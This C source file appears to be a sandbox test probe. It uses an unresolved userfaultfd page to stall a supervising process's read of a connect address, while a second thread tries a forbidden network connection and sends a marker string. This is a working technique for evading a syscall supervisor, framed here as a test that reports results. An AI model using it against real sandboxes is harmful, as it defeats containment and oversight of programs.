/* Stalls the supervisor's receiver on the program's memory: one thread's connect takes its
 * address from a page registered with userfaultfd whose fault nobody resolves, so the
 * supervisor's copy of the address waits; then another thread tries a connect to a
 * forbidden address. After WAIT_MS the page is filled (zeros) and the program exits.
 *
 * usage: r27_uffd LEAK_HOST LEAK_PORT WAIT_MS
 * Prints "uffd: ready" (or "uffd: unavailable errno=N"), "leak: answered errno=N" or
 * "leak: unanswered", then "stall: waited" (or "stall: returned before the fill").
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

static struct sockaddr_in leak_addr;
static void *page;
static atomic_int leak_done, leak_errno, stall_done;

static void sleep_ms(long ms) {
    struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
    while (nanosleep(&ts, &ts) != 0 && errno == EINTR) {
    }
}

static void *stall(void *arg) {
    (void)arg;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    if (fd >= 0) connect(fd, (struct sockaddr *)page, sizeof(struct sockaddr_in));
    atomic_store(&stall_done, 1);
    return NULL;
}

static void *leak(void *arg) {
    (void)arg;
    int fd = socket(AF_INET, SOCK_STREAM, 0);
    int rc = connect(fd, (struct sockaddr *)&leak_addr, sizeof leak_addr);
    atomic_store(&leak_errno, rc == 0 ? 0 : errno);
    atomic_store(&leak_done, 1);
    if (rc == 0) write(fd, "r27-leak", 8);
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 4) {
        fprintf(stderr, "usage: %s LEAK_HOST LEAK_PORT WAIT_MS\n", argv[0]);
        return 2;
    }
    memset(&leak_addr, 0, sizeof leak_addr);
    leak_addr.sin_family = AF_INET;
    leak_addr.sin_port = htons((unsigned short)atoi(argv[2]));
    if (inet_pton(AF_INET, argv[1], &leak_addr.sin_addr) != 1) return 2;
    long wait = atol(argv[3]);
    long psize = sysconf(_SC_PAGESIZE);
    int uffd = (int)syscall(SYS_userfaultfd, O_CLOEXEC | O_NONBLOCK);
    struct uffdio_api api = {.api = UFFD_API};
    if (uffd < 0 || ioctl(uffd, UFFDIO_API, &api) != 0) {
        printf("uffd: unavailable errno=%d\n", errno);
        return 0;
    }
    page = mmap(NULL, psize, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    struct uffdio_register reg = {.range = {.start = (unsigned long)page, .len = psize},
                                  .mode = UFFDIO_REGISTER_MODE_MISSING};
    if (page == MAP_FAILED || ioctl(uffd, UFFDIO_REGISTER, &reg) != 0) {
        printf("uffd: unavailable errno=%d\n", errno);
        return 0;
    }
    printf("uffd: ready\n");
    fflush(stdout);
    pthread_t t;
    if (pthread_create(&t, NULL, stall, NULL) != 0) return 2;
    sleep_ms(300);
    if (pthread_create(&t, NULL, leak, NULL) != 0) return 2;
    for (long waited = 0; waited < wait && !atomic_load(&leak_done); waited += 10) sleep_ms(10);
    if (atomic_load(&leak_done))
        printf("leak: answered errno=%d\n", atomic_load(&leak_errno));
    else
        printf("leak: unanswered\n");
    printf("stall: %s\n", atomic_load(&stall_done) ? "returned before the fill" : "waited");
    fflush(stdout);
    struct uffdio_zeropage zero = {.range = {.start = (unsigned long)page, .len = psize}};
    ioctl(uffd, UFFDIO_ZEROPAGE, &zero);
    sleep_ms(100);
    _exit(0);
}
